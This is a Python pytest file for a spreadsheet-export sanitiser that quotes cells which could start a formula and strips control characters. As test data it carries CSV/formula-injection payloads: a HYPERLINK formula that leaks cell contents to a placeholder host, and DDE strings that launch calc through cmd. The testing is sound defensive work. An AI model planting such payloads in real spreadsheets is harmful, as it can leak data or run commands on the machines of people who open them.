"""The one cell function of every XLSX and CSV export: formulas defused, XML kept valid."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from config.spreadsheet import safe_cell

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'


@pytest.mark.parametrize("text", [
    HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "-", "- пункт списка",
])
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-1,40", "+14,3", "-5", "42,9%", "3.86", "Больше практики",
                                  "", "МБОУ СОШ № 1", "a=b", "'уже с кавычкой"])
def test_plain_text_and_written_numbers_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [None, 0, -3, -1.4, Decimal("-2.5"), True])
def test_values_that_are_not_text_stay_untouched(value):
    assert safe_cell(value) is value


def test_vertical_tab_and_form_feed_become_line_breaks_and_other_controls_go():
    assert safe_cell("строка\x0bвторая\x0cтретья") == "строка\nвторая\nтретья"
    assert safe_cell("a\x00b\x01c\x1fd\x7fe\ufffef\uffff") == "abcdef"
    assert safe_cell("таб\tперевод\nвозврат\r!") == "таб\tперевод\nвозврат\r!"


def test_a_formula_hidden_behind_a_control_character_is_defused_too():
    assert safe_cell("\x01" + HYPERLINK) == "'" + HYPERLINK


def test_hostile_texts_make_a_workbook_openpyxl_writes_and_reads_back_as_text():
    hostile = [HYPERLINK, "a\x0bb", "x\x00\x08\x1by", "😀 שלום", "1" * 20, "я" * 5000]
    book = Workbook()
    book.active.append([safe_cell(text) for text in hostile] + [safe_cell(-1.5)])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [cell.data_type for cell in row] == ["s"] * len(hostile) + ["n"]
    assert row[0].value == "'" + HYPERLINK and row[1].value == "a\nb"
    assert row[-1].value == -1.5
